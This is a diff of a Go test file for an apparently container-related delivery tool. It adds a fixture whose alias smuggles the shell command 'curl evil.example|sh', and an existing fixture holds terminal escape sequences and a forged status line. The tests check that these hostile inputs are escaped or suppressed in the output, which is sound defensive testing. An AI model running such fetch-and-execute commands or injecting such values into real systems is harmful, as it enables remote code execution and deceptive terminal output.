@@ -79,6 +79,8 @@ func TestStartHere(t *testing.T) {
 	japanese := shopContent
 	japanese.Title = "お店"
 	hostile := delivery.Content{Name: "a.example/b:1", ID: "x\x1b]0;pwned\x07\r\nsealift: all is good", Version: strings.Repeat("9", 500), Title: "\x9b2J", Alias: strings.Repeat("x", 128), Signed: true}
+	shell := shopContent
+	shell.Alias = "x;curl evil.example|sh;"
 	delta := layout.Label{Roots: []layout.LabelRoot{{Name: shopContent.Name, Digest: shopContent.Digest, Base: []layout.LabelBase{{Name: "registry.example.com/shop:0.9.0"}, {Name: "other"}}}}}
 	volume := layout.Label{Set: &layout.LabelSet{ID: "4f1c", Volume: 2, Volumes: make([][]digest.Digest, 3)}}
 	var many []delivery.Content
@@ -122,6 +124,7 @@ func TestStartHere(t *testing.T) {
 		{"all there is", volume, everything, every, []string{"- and 58 more", "(uname -sm says Darwin arm64)", "(uname -sm says Linux armv7l)"}, nil},
 		{"much without volumes", delta, everything, every, []string{"- and 58 more"}, nil},
 		{"title in another script", layout.Label{}, []delivery.Content{japanese}, nil, []string{"app example.com/shop 1.0.0"}, []string{"?"}},
+		{"alias that is no tag", layout.Label{}, []delivery.Content{shell}, linuxTools, []string{"crane copy"}, []string{"curl", "oras"}},
 		{"hostile", layout.Label{Set: &layout.LabelSet{ID: "\x1b[2J", Volume: 1, Volumes: make([][]digest.Digest, 2)}}, []delivery.Content{hostile}, nil, []string{"app x?]0;pwned???sealift", "set ?[2J"}, []string{"\nsealift: all is good"}},
 	}
 	for _, tt := range tests {
